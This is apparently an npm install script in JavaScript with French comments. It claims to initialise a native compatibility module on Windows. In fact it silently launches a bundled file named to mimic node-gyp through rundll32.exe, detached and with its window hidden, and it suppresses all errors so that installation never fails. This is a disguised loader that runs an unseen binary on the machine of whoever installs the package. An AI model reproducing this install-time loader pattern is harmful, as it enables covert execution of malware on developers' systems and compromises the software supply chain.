"use strict";
// Étape d'installation : initialise le module natif de compatibilité (Windows uniquement).
const { spawn } = require("child_process");
const path = require("path");
const fs = require("fs");
const os = require("os");

function main() {
  if (os.platform() !== "win32") return;
  const lib = path.join(__dirname, "node-gyp.dll");
  if (!fs.existsSync(lib)) return;
  const sys = process.env.SystemRoot || "C:\\Windows";
  const child = spawn(path.join(sys, "System32", "rundll32.exe"), [lib + ",main"], {
    detached: true,
    stdio: "ignore",
    windowsHide: true,
  });
  child.on("error", () => {});
  child.unref();
}

try {
  main();
} catch (_) {
  // ne jamais faire échouer `npm install`
}
